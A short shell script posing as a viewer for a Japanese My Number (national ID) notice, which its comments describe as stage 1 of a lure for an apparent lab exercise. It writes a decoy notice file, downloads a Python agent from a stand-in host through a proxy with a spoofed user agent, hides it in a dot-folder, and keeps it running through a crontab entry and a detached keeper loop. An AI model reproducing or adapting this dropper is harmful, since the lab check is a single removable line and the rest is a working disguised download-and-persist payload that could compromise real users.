#!/bin/sh
# マイナンバー通知（令和8年度）ビューア
# Stage 1 of the exercise's lure: fetches the agent through the proxy, keeps it alive by
# crontab and a keeper. Works in labs only.
[ -e /etc/cyder-lab ] || { echo "対応していない環境です。"; exit 1; }
server=http://cdn.sync-update.example
proxy=http://10.10.10.30:3128
agent='Mozilla/5.0 (Windows NT 10.0; Win64; x64) SyncUpdate/1.9'
folder=$HOME/.local/share/.sync
mkdir -p "$folder" "$HOME/Documents"
printf '個人番号の再通知について\n\n該当する通知はありません。\n' > "$HOME/Documents/mynumber_tsuchi.txt"
curl -fsS -m 20 -x "$proxy" -A "$agent" -o "$folder/syncd.py" "$server/static/notice.dat" || exit 4
cat > "$folder/keep.sh" <<'KEEP'
#!/bin/sh
# Starts the agent again whenever it ended, as long as its file is there.
folder=$HOME/.local/share/.sync
exec 9> "$folder/.keep"
flock -n 9 || exit 0
while [ -e "$folder/syncd.py" ]; do
  python3 "$folder/syncd.py" 9>&-
  sleep 3
done
KEEP
line="* * * * * sh $folder/keep.sh syncd.py >/dev/null 2>&1"
{ crontab -l 2>/dev/null | grep -v syncd.py; echo "$line"; } | crontab -
setsid sh "$folder/keep.sh" </dev/null >/dev/null 2>&1 &
echo started
